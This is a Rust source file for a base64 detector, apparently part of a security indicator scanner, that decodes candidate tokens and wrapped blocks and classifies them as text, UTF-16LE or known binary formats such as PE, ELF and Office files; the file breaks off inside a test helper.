//! Base64 detector.
//!
//! A candidate is a maximal run of base64 characters, standard
//! (`[A-Za-z0-9+/]`) or URL-safe (`[A-Za-z0-9_-]`) but not both, with at
//! most two `=` of padding at its end. The run is bounded on both sides by
//! a byte outside `[A-Za-z0-9+/=_-]`, so a token glued to other alphabet
//! characters is rejected as a whole. A single `=` followed by more
//! characters cannot be padding, so it is read as the separator of a
//! `key=value` pair and the token is the value after it.
//!
//! The token is decoded and kept only when the bytes are text (ASCII or
//! UTF-8), UTF-16LE text, or start with the header of a binary format that
//! malware commonly carries. That filter, not the character class, is what
//! rejects identifiers, words and paths that happen to use the alphabet.

use super::chars::{lookup, BASE64_RUN_MIN_LEN};
use super::{Candidate, Value};
use crate::Category;

/// Minimum length of an unpadded token, in characters.
const MIN_LEN: usize = 16;

/// Minimum length of a padded token, in characters. Padding is strong
/// evidence of base64, so a padded token may be shorter (`QUJDREVGRw==`
/// is `ABCDEFG`).
const MIN_PADDED_LEN: usize = 12;

// The runs that `find` reads start at this length, and a wrapped block's
// shorter last line is read from the text (`take_short_last_line`).
const _: () = assert!(MIN_PADDED_LEN == BASE64_RUN_MIN_LEN);

/// Minimum number of decoded bytes.
const MIN_DECODED_LEN: usize = 6;

/// Maximum token length, in characters. Large enough for a small
/// executable embedded in a script; a longer run is skipped whole.
pub(crate) const MAX_TOKEN_LEN: usize = 4 << 20;

/// Maximum number of decoded bytes kept as the candidate's payload.
const MAX_PAYLOAD_LEN: usize = 1 << 20;

/// Minimum number of distinct characters in a token's data part. Fewer
/// means filler such as `AAAA…` or `++++////`.
const MIN_DISTINCT_SYMBOLS: u32 = 4;

/// Minimum number of distinct decoded bytes, for the same reason.
const MIN_DISTINCT_BYTES: usize = 3;

/// Minimum share, in percent, of printable characters in decoded text.
const MIN_PRINTABLE_PERCENT: usize = 85;

/// Decoded text may hold one control character (other than whitespace)
/// per this many bytes, so a short token may hold none.
const CONTROL_ALLOWANCE: usize = 64;

/// Marks a byte outside the candidate class in [`SEXTET`].
const OUTSIDE: u8 = 0xFF;

/// Marks `=` in [`SEXTET`].
const PAD: u8 = 0x40;

/// The 6-bit value of each base64 character, in both alphabets, plus
/// [`PAD`] for `=` and [`OUTSIDE`] for every other byte.
static SEXTET: [u8; 256] = sextet_table();

// Evaluated only at compile time to build a static, where an index out
// of range or an overflow stops the build instead of panicking at run
// time.
#[allow(clippy::indexing_slicing, clippy::arithmetic_side_effects)]
const fn sextet_table() -> [u8; 256] {
    let mut table = [OUTSIDE; 256];
    let mut i = 0;
    while i < 26 {
        table[b'A' as usize + i] = i as u8;
        table[b'a' as usize + i] = 26 + i as u8;
        i += 1;
    }
    let mut digit = 0;
    while digit < 10 {
        table[b'0' as usize + digit] = 52 + digit as u8;
        digit += 1;
    }
    table[b'+' as usize] = 62;
    table[b'-' as usize] = 62;
    table[b'/' as usize] = 63;
    table[b'_' as usize] = 63;
    table[b'=' as usize] = PAD;
    table
}

/// The low six bits of each [`SEXTET`] entry, so that decoding needs no
/// mask after each lookup.
// Evaluated only at compile time, like `sextet_table`.
#[allow(clippy::indexing_slicing, clippy::arithmetic_side_effects)]
const fn sextet_bits_table() -> [u8; 256] {
    let mut table = sextet_table();
    let mut byte = 0;
    while byte < 256 {
        table[byte] &= 0x3F;
        byte += 1;
    }
    table
}

/// Binary formats recognised by their first bytes, with the kind reported.
/// `MZ` is not here: it is only two bytes, so it is tried after the text
/// checks (see [`classify`]).
const MAGIC: &[(&[u8], &str)] = &[
    // ZIP local file header, which also starts JAR, APK and Office Open
    // XML files.
    (b"PK\x03\x04", "zip"),
    (b"%PDF-", "pdf"),
    // gzip member with deflate, the only method RFC 1952 defines.
    (b"\x1f\x8b\x08", "gzip"),
    (b"\x7fELF", "elf"),
    // OLE compound file: legacy Office documents (macro droppers), MSI.
    (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "ole"),
    // RAR 4 and RAR 5 share this prefix.
    (b"Rar!\x1a\x07", "rar"),
    (b"7z\xbc\xaf\x27\x1c", "7z"),
    // Microsoft cabinet, used by droppers and in Office exploit chains.
    (b"MSCF\0\0\0\0", "cab"),
    // Mach-O, 32-bit and 64-bit little-endian.
    (b"\xce\xfa\xed\xfe", "macho"),
    (b"\xcf\xfa\xed\xfe", "macho"),
];

/// Set for the first byte of each [`MAGIC`] prefix. Most decoded tokens
/// start with another byte, and then this one lookup replaces a
/// comparison with every prefix.
static MAGIC_FIRST: [bool; 256] = magic_first_table();

// Evaluated only at compile time, like `sextet_table`.
#[allow(clippy::indexing_slicing, clippy::arithmetic_side_effects)]
const fn magic_first_table() -> [bool; 256] {
    let mut table = [false; 256];
    let mut i = 0;
    while i < MAGIC.len() {
        table[MAGIC[i].0[0] as usize] = true;
        i += 1;
    }
    table
}

/// Pushes every base64 token in `text` that decodes to text or a known
/// binary format. `runs` are the text's runs as
/// [`base64_runs`](super::chars::base64_runs) returns them.
// Out of line so that profiles show the detector's cost under its name.
#[inline(never)]
pub(crate) fn find(
    text: &[u8],
    runs: &[(usize, usize)],
    out: &mut Vec<Candidate>,
) {
    // One reused buffer stores each decoded token while it is classified.
    let mut decoded = Vec::new();
    let mut wrapped = Wrapped::default();
    for &(start, end) in runs {
        // Most runs are shorter than any unpadded token, and unless a
        // wrapped block is open such a run is not a line of one either.
        let short = end.saturating_sub(start) < MIN_LEN
            && end.checked_sub(1).and_then(|last| text.get(last))
                != Some(&b'=');
        if short && wrapped.lines.is_empty() {
            continue;
        }
        // Tokens are bounded by `MAX_TOKEN_LEN` instead of the limits'
        // `max_token_len`, because an embedded executable is far longer
        // than any URL or path.
        if end.saturating_sub(start) > MAX_TOKEN_LEN {
            wrapped.finish(text, &mut decoded, out);
            continue;
        }
        if wrapped.extend(text, start, end) {
            continue;
        }
        wrapped.finish(text, &mut decoded, out);
        if wrapped.begin(text, start, end) {
            continue;
        }
        if let Some(run) = text.get(start..end) {
            examine_run(run, start, &mut decoded, out);
        }
    }
    wrapped.finish(text, &mut decoded, out);
}

/// Line lengths of wrapped base64: 76 characters in MIME (RFC 2045) and
/// in the `base64` tool's output, 64 in PEM (RFC 7468) and OpenSSL's.
pub(crate) const WRAP_WIDTHS: [usize; 2] = [64, 76];

/// The lines of a base64 block wrapped at one of [`WRAP_WIDTHS`], read so
/// far: every line but the last is that wide, has no `=` and ends with a
/// line break (LF or CRLF) that the next line follows directly.
///
/// Judged line by line, an attachment or a PEM blob decodes into pieces
/// cut every 57 or 48 bytes, so an indicator across a cut is lost and
/// only the first line shows a binary's header. The joined lines are
/// examined as one token spanning the block. When the joined lines are
/// no valid token, each line is examined alone, as without the joining.
/// When they decode to bytes that are neither text nor a known format,
/// such as a certificate's DER, the lines are not examined alone. Each
/// is a piece of those bytes, so a piece that reads as text (a name in
/// the certificate) is cut at both ends.
#[derive(Default)]
struct Wrapped {
    /// Bounds of each line in the text.
    lines: Vec<(usize, usize)>,
    /// The lines' characters, without the line breaks.
    chars: Vec<u8>,
    /// The width of every line but the last.
    width: usize,
    /// Set once a line shorter than `width`, or padded, ends the block.
    closed: bool,
}

impl Wrapped {
    /// Starts a block at the run from `start` to `end` when it can be
    /// the first line of one.
    fn begin(&mut self, text: &[u8], start: usize, end: usize) -> bool {
        let width = end.saturating_sub(start);
        let Some(run) = text.get(start..end) else {
            return false;
        };
        if !WRAP_WIDTHS.contains(&width)
            || run.contains(&b'=')
            || line_break_len(text, end).is_none()
        {
            return false;
        }
        self.lines.push((start, end));
        self.chars.extend_from_slice(run);
        self.width = width;
        true
    }

    /// Adds the run from `start` to `end` when it continues the block.
    fn extend(&mut self, text: &[u8], start: usize, end: usize) -> bool {
        let Some(&(_, last_end)) = self.lines.last() else {
            return false;
        };
        let len = end.saturating_sub(start);
        let follows = line_break_len(text, last_end)
            .is_some_and(|gap| last_end.saturating_add(gap) == start);
        let fits = self.chars.len().saturating_add(len) <= MAX_TOKEN_LEN;
        let Some(run) = text.get(start..end) else {
            return false;
        };
        if self.closed || !follows || !fits || len > self.width {
            return false;
        }
        // A run with `=` is a last line only when the `=` is its padding.
        let pad = run.iter().rev().take_while(|&&b| b == b'=').count();
        if run.iter().rev().skip(pad).any(|&b| b == b'=') {
            return false;
        }
        let last = len < self.width || pad > 0;
        if last && !self.ends_block(text, end, len) {
            return false;
        }
        self.lines.push((start, end));
        self.chars.extend_from_slice(run);
        self.closed = last || line_break_len(text, end).is_none();
        true
    }

    /// Reports whether a last line of `len` characters ending at `end`
    /// can close the block: it fills the whole line, and it brings the
    /// block to a whole number of 4-character groups, as an encoder
    /// writes them. Then a short word on the line after a block is not
    /// taken for its end.
    fn ends_block(&self, text: &[u8], end: usize, len: usize) -> bool {
        let whole_line =
            end == text.len() || matches!(text.get(end), Some(b'\n' | b'\r'));
        let total = self.chars.len().saturating_add(len);
        whole_line && total.is_multiple_of(4)
    }

    /// Adds a last line too short for the run search to report, such as
    /// `ZQ==`, when it follows the block's last line break.
    fn take_short_last_line(&mut self, text: &[u8]) {
        let Some(&(_, last_end)) = self.lines.last() else {
            return;
        };
        if self.closed {
            return;
        }
        let Some(start) = line_break_len(text, last_end)
            .map(|gap| last_end.saturating_add(gap))
        else {
            return;
        };

        let rest = text.get(start..).unwrap_or_default();
        let len = rest
            .iter()
            .take(MIN_PADDED_LEN)
            .take_while(|&&b| lookup(&SEXTET, b) != OUTSIDE)
            .count();
        if len == 0 || len >= MIN_PADDED_LEN {
            return;
        }
        let Some(run) = rest.get(..len) else {
            return;
        };

        let pad = run.iter().rev().take_while(|&&b| b == b'=').count();
        if run.iter().rev().skip(pad).any(|&b| b == b'=') {
            return;
        }
        let end = start.saturating_add(len);
        if !self.ends_block(text, end, len) {
            return;
        }
        self.lines.push((start, end));
        self.chars.extend_from_slice(run);
        self.closed = true;
    }

    /// Examines the block read so far, if any, and empties it. Most runs
    /// start no block, so the empty case is inlined at each call.
    #[inline(always)]
    fn finish(
        &mut self,
        text: &[u8],
        decoded: &mut Vec<u8>,
        out: &mut Vec<Candidate>,
    ) {
        if !self.lines.is_empty() {
            self.finish_block(text, decoded, out);
        }
    }

    fn finish_block(
        &mut self,
        text: &[u8],
        decoded: &mut Vec<u8>,
        out: &mut Vec<Candidate>,
    ) {
        self.take_short_last_line(text);
        let joined = match (self.lines.first(), self.lines.last()) {
            (Some(&(start, _)), Some(&(_, end))) if self.lines.len() > 1 => {
                examine_chars(&self.chars, (start, end), decoded, out)
            }
            _ => None,
        };
        if joined.is_none() {
            for &(start, end) in &self.lines {
                if let Some(run) = text.get(start..end) {
                    examine_run(run, start, decoded, out);
                }
            }
        }
        self.lines.clear();
        self.chars.clear();
        self.closed = false;
    }
}

/// Returns the length of the line break (LF or CRLF) at `at`, if one is
/// there.
fn line_break_len(text: &[u8], at: usize) -> Option<usize> {
    match text.get(at..)? {
        [b'\n', ..] => Some(1),
        [b'\r', b'\n', ..] => Some(2),
        _ => None,
    }
}

/// The start, padding and character flags of the token in a run.
struct Token {
    /// Offset of the token in its run.
    offset: usize,
    /// Number of trailing `=`.
    pad: usize,
    /// The OR of the [`SYMBOL_FLAGS`] of the token's characters before
    /// the padding.
    flags: u8,
}

/// Finds the token in a run: the whole run, or the value after the last
/// single `=` when the run is a `key=value` pair. Returns `None` when `=`
/// sits where neither padding nor a separator can be, as in
/// `xxxSGVsbG8sIFdvcmxkIQ==yyy`.
fn split_token(run: &[u8]) -> Option<Token> {
    // Three `=` are never padding, so counting stops there.
    let pad = run.iter().rev().take(3).take_while(|&&b| b == b'=').count();
    if pad > 2 {
        return None;
    }
    let body = run.get(..run.len().checked_sub(pad)?)?;
    // Most runs contain no `=` before the padding, and then this one pass
    // yields the token's flags as well.
    let flags = symbol_flags(body);
    if flags & EQUALS == 0 {
        return Some(Token { offset: 0, pad, flags });
    }
    let at = memchr::memrchr(b'=', body)?;
    // Every `=` up to the token must be a single separator. The key is
    // short in practice, so a plain scan beats building a searcher.
    let key = body.get(..=at)?;
    if key.windows(2).any(|pair| pair == b"==") {
        return None;
    }
    let offset = at.checked_add(1)?;
    let flags = symbol_flags(body.get(offset..)?);
    Some(Token { offset, pad, flags })
}

/// Set in [`SYMBOL_FLAGS`] for `+` and `/`, found only in standard base64.
const STANDARD_SIGN: u8 = 1;

/// Set in [`SYMBOL_FLAGS`] for `-` and `_`, found only in URL-safe base64.
const URL_SAFE_SIGN: u8 = 2;

/// Set in [`SYMBOL_FLAGS`] for every byte other than a hex digit or `-`.
const NOT_HEX: u8 = 4;

/// Set in [`SYMBOL_FLAGS`] for `=`.
const EQUALS: u8 = 8;

/// The flags above for each byte. Their OR over a token shows which
/// alphabet it uses, whether it is hex and whether it contains `=`.
static SYMBOL_FLAGS: [u8; 256] = symbol_flags_table();

// Evaluated only at compile time to build a static, where an index out
// of range or an overflow stops the build instead of panicking at run
// time.
#[allow(clippy::indexing_slicing, clippy::arithmetic_side_effects)]
const fn symbol_flags_table() -> [u8; 256] {
    let mut table = [0u8; 256];
    let mut byte = 0;
    while byte < 256 {
        let b = byte as u8;
        if !b.is_ascii_hexdigit() && b != b'-' {
            table[byte] = NOT_HEX;
        }
        byte += 1;
    }
    table[b'+' as usize] |= STANDARD_SIGN;
    table[b'/' as usize] |= STANDARD_SIGN;
    table[b'-' as usize] |= URL_SAFE_SIGN;
    table[b'_' as usize] |= URL_SAFE_SIGN;
    table[b'=' as usize] |= EQUALS;
    table
}

/// Returns the OR of the [`SYMBOL_FLAGS`] of every byte in `data`.
fn symbol_flags(data: &[u8]) -> u8 {
    data.iter().fold(0, |flags, &byte| flags | lookup(&SYMBOL_FLAGS, byte))
}

/// Reports whether `data` has fewer than [`MIN_DISTINCT_SYMBOLS`]
/// distinct characters, as filler such as `AAAA…` has. `data` must not
/// mix the two alphabets, so that distinct characters have distinct
/// 6-bit values.
fn is_filler(data: &[u8]) -> bool {
    // A token whose first four characters differ is settled with six
    // comparisons instead of four rounds of the loop below.
    const _: () = assert!(MIN_DISTINCT_SYMBOLS == 4);
    if let [a, b, c, d, ..] = *data {
        if a != b && a != c && a != d && b != c && b != d && c != d {
            return false;
        }
    }
    let mut seen = 0u64;
    let mut distinct: u32 = 0;
    for &byte in data {
        let bit = 1u64 << (lookup(&SEXTET, byte) & 0x3F);
        distinct = distinct.saturating_add(u32::from(seen & bit == 0));
        seen |= bit;
        if distinct >= MIN_DISTINCT_SYMBOLS {
            return false;
        }
    }
    true
}

/// Checks the token in `run` (which starts at `run_start` in the text) and
/// pushes it when its decoded bytes pass [`classify`].
///
/// Most runs are words, paths and hashes, so the tests run cheapest
/// first: the run length alone, then the token's length and padding,
/// then one pass over its characters, and decoding last.
fn examine_run(
    run: &[u8],
    run_start: usize,
    decoded: &mut Vec<u8>,
    out: &mut Vec<Candidate>,
) {
    // The token is a suffix of the run, and only a padded token may be
    // shorter than `MIN_LEN`. In a generated indicator-dense corpus this
    // rejects over half the runs.
    if run.len() < MIN_LEN && run.last() != Some(&b'=') {
        return;
    }
    // A hash or a GUID, alone or as the value of a `key=value` pair, is
    // a token of hex digits and `-` only, which fails the hex test of
    // `token_data`. That is half the runs that get here in the generated
    // benchmark text, and this mostly vectorised test costs less than
    // the table lookups of `split_token`.
    if is_hex_token(run) {
        return;
    }
    examine_token(run, run_start, decoded, out);
}

/// Bytes tested at once by [`is_hex_token`].
const HEX_CHUNK: usize = 16;

/// Reports whether `run` contains only hex digits and `-`, or ends in
/// `=` and one or more of them. In both cases the token that
/// [`split_token`] finds (if any) is hex only and has no padding.
///
/// The bytes are tested from the end, a chunk at a time, and then one at
/// a time back from the end of the first chunk that is not all hex.
fn is_hex_token(run: &[u8]) -> bool {
    let mut rest = run;
    while let Some((head, last)) = rest.split_last_chunk::<HEX_CHUNK>() {
        if !is_hex_chunk(last) {
            break;
        }
        rest = head;
    }
    match rest.iter().rposition(|&byte| !is_hex_or_dash(byte)) {
        None => true,
        Some(at) => {
            rest.get(at) == Some(&b'=') && at.saturating_add(1) < run.len()
        }
    }
}

/// Reports whether `chunk` contains only hex digits and `-`. There is no
/// early exit, so that the compiler vectorises the test.
#[inline(always)]
fn is_hex_chunk(chunk: &[u8; HEX_CHUNK]) -> bool {
    chunk.iter().fold(true, |hex, &byte| hex & is_hex_or_dash(byte))
}

/// Reports whether `byte` is a hex digit in either case or `-`, with
/// comparisons only, so that [`is_hex_chunk`] vectorises.
fn is_hex_or_dash(byte: u8) -> bool {
    let digit = byte.wrapping_sub(b'0') < 10;
    let letter = (byte | 0x20).wrapping_sub(b'a') < 6;
    digit | letter | (byte == b'-')
}

/// Runs the tests of [`examine_run`] after the first. It is kept out of
/// line so that the loop in [`find`], which calls `examine_run` for most
/// runs, does not pay for its registers and stack frame.
#[inline(never)]
fn examine_token(
    run: &[u8],
    run_start: usize,
    decoded: &mut Vec<u8>,
    out: &mut Vec<Candidate>,
) {
    let Some(token) = split_token(run) else {
        return;
    };
    let Some(chars) = run.get(token.offset..) else {
        return;
    };
    // The token lies inside the text, so neither sum can saturate.
    let start = run_start.saturating_add(token.offset);
    let end = start.saturating_add(chars.len());
    accept_token(chars, &token, (start, end), decoded, out);
}

/// Examines `chars`, the joined lines of a wrapped block spanning `span`
/// in the text, as one token. Returns `None` when they are no valid
/// token, and otherwise whether their decoded bytes were pushed.
fn examine_chars(
    chars: &[u8],
    span: (usize, usize),
    decoded: &mut Vec<u8>,
    out: &mut Vec<Candidate>,
) -> Option<bool> {
    let token = split_token(chars).filter(|token| token.offset == 0)?;
    let data = token_data(chars, &token)?;
    Some(push_decoded(chars, data, span, decoded, out))
}

/// Runs the checks on the characters and decoded bytes of `token`, whose
/// characters are `chars`, and pushes it with the bounds `span` when it
/// passes. Returns whether it was pushed.
#[inline(always)]
fn accept_token(
    chars: &[u8],
    token: &Token,
    span: (usize, usize),
    decoded: &mut Vec<u8>,
    out: &mut Vec<Candidate>,
) -> bool {
    match token_data(chars, token) {
        Some(data) => push_decoded(chars, data, span, decoded, out),
        None => false,
    }
}

/// Returns the characters of `token` before its padding when they pass
/// the checks that need no decoding: length, padding, one alphabet, not
/// hex only and not filler.
#[inline(always)]
fn token_data<'a>(chars: &'a [u8], token: &Token) -> Option<&'a [u8]> {
    let data_len = chars.len().checked_sub(token.pad)?;
    let min_len = if token.pad > 0 { MIN_PADDED_LEN } else { MIN_LEN };
    // A data length of 1 mod 4 leaves 6 bits, less than one byte.
    if chars.len() < min_len || data_len % 4 == 1 {
        return None;
    }
    if token.pad > 0 && !chars.len().is_multiple_of(4) {
        return None;
    }
    let data = chars.get(..data_len)?;
    let both_signs = STANDARD_SIGN | URL_SAFE_SIGN;
    if token.flags & both_signs == both_signs {
        return None;
    }
    // Hex digits (and `-`) only, as in a hash, a number or a GUID.
    if token.flags & NOT_HEX == 0 || is_filler(data) {
        return None;
    }
    Some(data)
}

/// Decodes `data`, the characters of a token before its padding, and
/// pushes the token when the bytes pass [`classify`]. Returns whether it
/// was pushed. Kept out of line because most tokens fail the checks
/// before it, and those should not pay for its registers and stack frame.
#[inline(never)]
fn push_decoded(
    chars: &[u8],
    data: &[u8],
    (start, end): (usize, usize),
    decoded: &mut Vec<u8>,
    out: &mut Vec<Candidate>,
) -> bool {
    decode_into(data, decoded);
    let Some(kind) = classify(decoded) else {
        return false;
    };
    // Every character is in the ASCII class, so the conversion never
    // fails.
    let value = Value::from_ascii(chars).unwrap_or_default();
    let keep = decoded.len().min(MAX_PAYLOAD_LEN);
    let mut candidate =
        Candidate::new(Category::Base64, start, end, value).with_kind(kind);
    candidate.payload = decoded.get(..keep).map(<[u8]>::to_vec);
    out.push(candidate);
    true
}

/// Decodes `data`, base64 characters without padding, into `out`. Both
/// alphabets are accepted because the caller rejects tokens that mix them.
fn decode_into(data: &[u8], out: &mut Vec<u8>) {
    let (quads, rest) = data.as_chunks::<4>();
    out.clear();
    // At most `data.len()`, which is far below `usize::MAX`.
    out.reserve(data.len());
    // Four groups at a time make one copy of a fixed size, and so one
    // capacity check, per 12 bytes.
    let (batches, single) = quads.as_chunks::<4>();
    for batch in batches {
        let mut bytes = [0u8; 12];
        for (triple, quad) in
            bytes.as_chunks_mut::<3>().0.iter_mut().zip(batch)
        {
            let [a, b, c, _] = decode_group(quad).to_le_bytes();
            *triple = [a, b, c];
        }
        out.extend_from_slice(&bytes);
    }
    for quad in single {
        let [a, b, c, _] = decode_group(quad).to_le_bytes();
        out.extend_from_slice(&[a, b, c]);
    }
    // Two or three characters left over carry one or two bytes, and the
    // bits of the missing characters read as zero.
    let [a, b, _, _] = decode_group(rest).to_le_bytes();
    match rest.len() {
        2 => out.push(a),
        3 => out.extend_from_slice(&[a, b]),
        _ => {}
    }
}

/// Returns the bytes that up to four base64 characters encode, in the
/// low three bytes of a `u32` in little-endian order. Each character
/// costs one lookup and one OR, fewer instructions than shifting the
/// sextets into place and swapping the bytes.
#[inline(always)]
fn decode_group(chars: &[u8]) -> u32 {
    chars
        .iter()
        .zip(&DECODE_LANES)
        .fold(0, |word, (&c, lane)| word | lookup(lane, c))
}

/// For each position in a group of four characters, the sextet of each
/// character (the low six bits of its [`SEXTET`] entry) moved to where
/// its bits land in the group's three decoded bytes, read as a
/// little-endian `u32`.
static DECODE_LANES: [[u32; 256]; 4] = decode_lanes_table();

// Evaluated only at compile time, like `sextet_table`.
#[allow(clippy::indexing_slicing, clippy::arithmetic_side_effects)]
const fn decode_lanes_table() -> [[u32; 256]; 4] {
    let bits = sextet_bits_table();
    let mut table = [[0u32; 256]; 4];
    let mut byte = 0;
    while byte < 256 {
        let sextet = bits[byte] as u32;
        // The first byte takes the first sextet and the top two bits of
        // the second, the second byte the rest of the second and the top
        // four bits of the third, and the third byte the rest.
        table[0][byte] = sextet << 2;
        table[1][byte] = sextet >> 4 | (sextet & 0xF) << 12;
        table[2][byte] = (sextet >> 2) << 8 | (sextet & 0x3) << 22;
        table[3][byte] = sextet << 16;
        byte += 1;
    }
    table
}

/// Returns the kind of decoded bytes worth reporting, or `None` for
/// binary noise.
fn classify(bytes: &[u8]) -> Option<&'static str> {
    if bytes.len() < MIN_DECODED_LEN || !has_distinct_bytes(bytes) {
        return None;
    }
    if bytes.first().is_some_and(|&first| lookup(&MAGIC_FIRST, first)) {
        let magic = MAGIC.iter().find(|(magic, _)| bytes.starts_with(magic));
        if let Some(&(_, kind)) = magic {
            return Some(kind);
        }
    }
    if is_text(bytes) {
        return Some("text");
    }
    if is_utf16le_text(bytes) {
        return Some("utf16le");
    }
    // A DOS header (`TVqQ…` in base64) that is not also readable text.
    if bytes.starts_with(b"MZ") {
        return Some("pe");
    }
    None
}

/// Reports whether `bytes` contains at least [`MIN_DISTINCT_BYTES`]
/// distinct values.
fn has_distinct_bytes(bytes: &[u8]) -> bool {
    const _: () = assert!(MIN_DISTINCT_BYTES == 3);
    let mut values = bytes.iter();
    let Some(&first) = values.next() else {
        return false;
    };
    let Some(&second) = values.find(|&&b| b != first) else {
        return false;
    };
    values.any(|&b| b != first && b != second)
}

const fn is_printable_ascii(byte: u8) -> bool {
    matches!(byte, b' '..=b'~' | b'\t' | b'\n' | b'\r' | b'\x0B' | b'\x0C')
}

fn mostly(part: usize, whole: usize) -> bool {
    part.saturating_mul(100) >= whole.saturating_mul(MIN_PRINTABLE_PERCENT)
}

/// Reports whether `bytes` reads as text: mostly printable ASCII, or valid
/// UTF-8 of mostly printable characters, with at least one letter and
/// hardly any control characters. Control bytes are what give away
/// binary structures with embedded strings, such as a line of a PEM
/// certificate (`2\x06\x03U\x04\x0b\x13+CloudFlare Origin…`).
fn is_text(bytes: &[u8]) -> bool {
    // A C string is often encoded with its terminating NUL.
    let last = bytes.iter().rposition(|&b| b != 0);
    let end = last.map_or(0, |i| i.saturating_add(1));
    let body = bytes.get(..end).unwrap_or(bytes);

    // Uniformly random bytes include a control byte about one time in
    // nine, so noise is rejected as soon as the allowance runs out.
    let allowance = body.len() / CONTROL_ALLOWANCE;
    // The printable share fails once more bytes than this are not
    // printable. Paths and words decode to mostly non-ASCII bytes, and
    // past this count only the UTF-8 test can accept them, which usually
    // rejects them at their first bytes.
    let max_other =
        body.len().saturating_mul(100 - MIN_PRINTABLE_PERCENT).div_euclid(100);
    // The counters stay below `body.len()`, so none saturates or wraps.
    // A wrapping sum spares each byte the conditional move of a
    // saturating one.
    let mut counted: usize = 0;
    let mut controls: usize = 0;
    let mut printable: usize = 0;
    let mut seen = 0;
    for chunk in body.chunks(TEXT_CHUNK) {
        for &byte in chunk {
            let class = lookup(&TEXT_CLASS, byte);
            if class & CONTROL != 0 {
                controls = controls.saturating_add(1);
                if controls > allowance {
                    return false;
                }
            }
            printable = printable.wrapping_add(usize::from(class & PRINTABLE));
            seen |= class;
        }
        counted = counted.wrapping_add(chunk.len());
        if counted.wrapping_sub(printable) > max_other {
            return is_utf8_text(body);
        }
    }
    let letter = seen & LETTER != 0;
    if letter && mostly(printable, body.len()) {
        return true;
    }
    if body.is_ascii() {
        return false;
    }
    is_utf8_text(body)
}

/// Bytes that [`is_text`] counts between two tests of the printable
/// share.
const TEXT_CHUNK: usize = 8;

/// Reports whether `body`, which fails the printable share of ASCII
/// text, is UTF-8 text: valid UTF-8 of mostly printable characters with
/// at least one letter, and within the control allowance of
/// [`is_text`].
fn is_utf8_text(body: &[u8]) -> bool {
    // No UTF-8 sequence starts with a continuation byte, an overlong
    // lead or a lead past U+10FFFF, which spares noise the call below.
    if matches!(body.first(), Some(0x80..=0xC1 | 0xF5..=0xFF)) {
        return false;
    }
    let Ok(text) = std::str::from_utf8(body) else {
        return false;
    };
    let allowance = body.len() / CONTROL_ALLOWANCE;
    let controls = body.iter().filter(|&&b| is_control_byte(b)).count();
    if controls > allowance {
        return false;
    }
    let mut chars: usize = 0;
    let mut printable: usize = 0;
    let mut letter = false;
    for c in text.chars() {
        chars = chars.saturating_add(1);
        if !c.is_control() || c.is_whitespace() {
            printable = printable.saturating_add(1);
        }
        letter |= c.is_alphabetic();
    }
    letter && mostly(printable, chars)
}

/// Set in [`TEXT_CLASS`] for printable ASCII and ASCII whitespace.
const PRINTABLE: u8 = 1;

/// Set in [`TEXT_CLASS`] for ASCII control characters other than
/// whitespace.
const CONTROL: u8 = 2;

/// Set in [`TEXT_CLASS`] for ASCII letters.
const LETTER: u8 = 4;

/// The classes above for each byte, so that [`is_text`] tests a byte with
/// one lookup.
static TEXT_CLASS: [u8; 256] = text_class_table();

// Evaluated only at compile time to build a static, where an index out
// of range or an overflow stops the build instead of panicking at run
// time.
#[allow(clippy::indexing_slicing, clippy::arithmetic_side_effects)]
const fn text_class_table() -> [u8; 256] {
    let mut table = [0u8; 256];
    let mut byte = 0;
    while byte < 256 {
        let b = byte as u8;
        if is_printable_ascii(b) {
            table[byte] |= PRINTABLE;
        }
        if is_control_byte(b) {
            table[byte] |= CONTROL;
        }
        if b.is_ascii_alphabetic() {
            table[byte] |= LETTER;
        }
        byte += 1;
    }
    table
}

/// Reports whether `byte` is an ASCII control character other than
/// whitespace.
const fn is_control_byte(byte: u8) -> bool {
    byte.is_ascii_control() && !is_printable_ascii(byte)
}

/// Reports whether `bytes` reads as UTF-16LE text, as PowerShell's
/// `-EncodedCommand` takes: an optional byte order mark, then mostly
/// printable ASCII characters (odd bytes NUL, even bytes printable) with
/// at least one letter, and no unpaired surrogate.
fn is_utf16le_text(bytes: &[u8]) -> bool {
    let body = bytes.strip_prefix(b"\xFF\xFE").unwrap_or(bytes);
    if !body.len().is_multiple_of(2) || body.len() < MIN_DECODED_LEN {
        return false;
    }
    may_be_utf16le_text(body) && is_printable_utf16le(body)
}

/// Reports whether `body`, an even number of bytes, decodes as UTF-16LE
/// without unpaired surrogates to mostly printable ASCII characters with
/// at least one letter.
fn is_printable_utf16le(body: &[u8]) -> bool {
    let units = body.chunks_exact(2).map(|pair| match *pair {
        [low, high] => u16::from_le_bytes([low, high]),
        _ => 0,
    });
    let mut total: usize = 0;
    let mut ascii: usize = 0;
    let mut letter = false;
    for unit in char::decode_utf16(units) {
        let Ok(c) = unit else {
            return false;
        };
        total = total.saturating_add(1);
        if c.is_ascii() && is_printable_ascii(c as u8) {
            ascii = ascii.saturating_add(1);
            letter |= c.is_ascii_alphabetic();
        }
    }
    letter && mostly(ascii, total)
}

/// Reports whether `body` may pass [`is_printable_utf16le`]: false as
/// soon as more than 6/23 (about 26%) of its code units are not printable
/// ASCII, which rejects binary noise after a few units.
///
/// With `units` code units of which `a` are printable ASCII, there are at
/// most `(units - a) / 2` surrogate pairs, so at least `(units + a) / 2`
/// characters. Reaching the printable share then needs `23 a >= 17 units`,
/// that is at most `6 units / 23` other units, so this test never rejects
/// a body that the full test accepts.
fn may_be_utf16le_text(body: &[u8]) -> bool {
    const _: () = assert!(MIN_PRINTABLE_PERCENT == 85);
    let units = body.len() / 2;
    let limit = units.saturating_mul(6) / 23;
    let mut other: usize = 0;
    for pair in body.chunks_exact(2) {
        let ascii = matches!(*pair, [low, 0] if is_printable_ascii(low));
        if !ascii {
            other = other.saturating_add(1);
            if other > limit {
                return false;
            }
        }
    }
    true
}

#[cfg(test)]
#[allow(clippy::indexing_slicing, clippy::arithmetic_side_effects)]
pub(crate) mod tests {
    use super::super::chars::base64_runs;
    use super::*;
    use proptest::prelude::*;

    const STANDARD: &[u8; 64] =
        b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";

    /// Encodes `bytes` in the standard alphabet with padding.
    pub(crate) fn encode(bytes: &[u8]) -> String {
        let mut out = String::new();
        for group in bytes.chunks(3) {
            let mut bits = 0u32;
            for (i, &b) in group.iter().enumerate() {
                bits |= u32::from(b) << (16 - 8 * i);
            }
            for i in 0..4 {
                if i <= group.len() {
                    let sextet = (bits >> (18 - 6 * i)) & 0x3F;
